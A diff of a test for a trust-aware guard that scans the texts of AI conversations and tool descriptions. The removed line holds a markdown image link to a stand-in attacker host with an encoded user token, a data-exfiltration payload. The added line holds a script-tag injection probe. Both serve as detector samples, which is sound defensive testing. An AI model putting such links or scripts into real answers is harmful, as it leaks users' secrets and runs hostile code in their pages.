@@ -131,12 +131,12 @@ def test_every_detector_of_texts_takes_part(guard: Guard) -> None:
 def test_what_was_clean_as_a_users_word_is_read_again_as_anybodys() -> None:
     """Patterns go by trust: some look for what only answers, documents and fields must not hold."""
     guard = Guard()
-    said = "See ![chart](https://evil.example/collect?data=c2VjcmV0IHRva2VuIG9mIHRoZSB1c2Vy) for the numbers."
+    said = "请帮我写一首关于春天的诗。<script>alert(1)</script>"
     users = Text(text=said, role="user", trust="user", part="/messages/0/content")
     fields = Text(text=said, role="field", trust="untrusted", part="/tools/0/description")
     alone = {one.rule.id for one in guard.examine([fields]).findings}
     fresh = Guard()
-    fresh.examine([users])
 
+    assert fresh.examine([users]).findings == ()
     assert {one.rule.id for one in fresh.examine([fields]).findings} == alone
-    assert "answer.exfiltrating-image" in alone
+    assert "answer.active-html" in alone
